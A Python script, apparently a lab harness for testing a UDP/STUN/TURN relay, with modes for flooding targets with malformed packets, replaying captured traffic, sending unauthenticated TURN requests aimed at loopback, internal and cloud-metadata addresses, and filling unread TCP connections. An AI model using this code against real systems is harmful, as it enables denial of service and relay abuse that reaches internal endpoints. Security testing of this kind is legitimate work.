"""Attacks from a host of the lab, as a script of the standard library: `python attack.py KIND ...` prints JSON.

junk KIND SECONDS HOST:PORT...   packets of one kind at 5000 a second, to each in turn
replay PCAP TARGET               the captured packets to a target's ports again, from here, three times each
proxy HOST:PORT SESSION          STUN and opaque packets to a relay without having proven anything
stuck HOST:PORT                  write into a TCP connection that is never read, until nothing more is taken
"""

import contextlib
import json
import os
import random
import socket
import struct
import sys
import time
from pathlib import Path

Endpoint = tuple[str, int]
RATE = 5000
_COOKIE = 0x2112A442


def endpoint(text: str) -> Endpoint:
    """("192.0.2.1", 53) of 192.0.2.1:53."""
    host, _, port = text.rpartition(":")
    return host, int(port)


def junk_packet(kind: str) -> bytes:
    """A packet that looks like something and is nothing."""
    if kind == "short":
        return bytes([0x40 | random.randrange(64)]) + os.urandom(random.randrange(20, 1200))
    if kind == "long":
        length = random.randrange(1, 21)
        return b"\xc3\x00\x00\x00\x01" + bytes([length]) + os.urandom(length) + os.urandom(1200)
    if kind == "stun":
        body = struct.pack("!HH", 0x0006, 32) + os.urandom(32) + struct.pack("!HH", 0x0008, 20) + os.urandom(20)
        return struct.pack("!HHI12s", 1, len(body), _COOKIE, os.urandom(12)) + body
    return os.urandom(random.randrange(1, 1400))


def junk(kind: str, seconds: float, targets: list[Endpoint]) -> dict[str, int]:
    """Send at a steady rate."""
    packets = [junk_packet(kind) for _ in range(512)]
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        begin = time.monotonic()
        while (now := time.monotonic() - begin) < seconds:
            while sent < now * RATE:
                with contextlib.suppress(OSError):
                    sock.sendto(packets[sent % len(packets)], targets[sent % len(targets)])
                sent += 1
            time.sleep(0.001)
    return {"sent": sent}


def payloads(data: bytes, target: str) -> list[tuple[int, bytes]]:
    """(port, UDP payload) of the packets to an address in an Ethernet capture."""
    found, at = [], 24
    wanted = socket.inet_aton(target)
    while at + 16 <= len(data):
        captured = struct.unpack_from("<I", data, at + 8)[0]
        frame = data[at + 16 : at + 16 + captured]
        at += 16 + captured
        if frame[12:14] == b"\x08\x00" and len(frame) > 42 and frame[23] == 17 and frame[30:34] == wanted:
            found.append((struct.unpack_from("!H", frame, 36)[0], frame[42:]))
    return found


def replay(path: Path, target: str) -> dict[str, int]:
    """Every packet three times, from an address that was never its source."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for _ in range(3):
            for port, payload in payloads(path.read_bytes(), target):
                sock.sendto(payload, (target, port))
                sent += 1
                time.sleep(0.0005)
    return {"sent": sent}


def proxy(relay: Endpoint, session: str) -> dict[str, int]:
    """Ask for everything that a relay must not do."""
    sent = 0
    addresses = ("127.0.0.1", "0.0.0.0", "169.254.169.254", "172.20.0.2", "172.20.0.21")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for role in ("agent", "connector", "intermediate"):
            username = f"{session}:{role}".encode()
            padded = username + bytes(-len(username) % 4)
            body = struct.pack("!HH", 0x0006, len(username)) + padded + struct.pack("!HH", 0x0008, 20) + os.urandom(20)
            for kind in (0x0001, 0x0003, 0x0006, 0x0008):  # Binding, and TURN's Allocate, Send, CreatePermission
                for address in addresses:
                    peer = struct.pack("!HHBBHI", 0x0012, 8, 0, 1, 53 ^ (_COOKIE >> 16),
                                       int.from_bytes(socket.inet_aton(address), "big") ^ _COOKIE)  # fmt: skip
                    whole = peer + body
                    sock.sendto(struct.pack("!HHI12s", kind, len(whole), _COOKIE, os.urandom(12)) + whole, relay)
                    sent += 1
        for _ in range(200):
            sock.sendto(bytes([0x40]) + os.urandom(200), relay)
            sent += 1
    return {"sent": sent}


def stuck(target: Endpoint) -> None:
    """Fill a connection whose other end echoes, and keep it so until the input ends."""
    with socket.create_connection(target, timeout=10) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(2.0)
        written = 0
        with contextlib.suppress(OSError):
            while written < 64 << 20:
                written += sock.send(bytes(65536))
        print(json.dumps({"written": written}), flush=True)
        sys.stdin.read()


def main(argv: list[str]) -> None:
    """Run the command line."""
    if argv[0] == "junk":
        print(json.dumps(junk(argv[1], float(argv[2]), [endpoint(text) for text in argv[3:]])))
    elif argv[0] == "replay":
        print(json.dumps(replay(Path(argv[1]), argv[2])))
    elif argv[0] == "proxy":
        print(json.dumps(proxy(endpoint(argv[1]), argv[2])))
    elif argv[0] == "stuck":
        stuck(endpoint(argv[1]))


if __name__ == "__main__":
    main(sys.argv[1:])
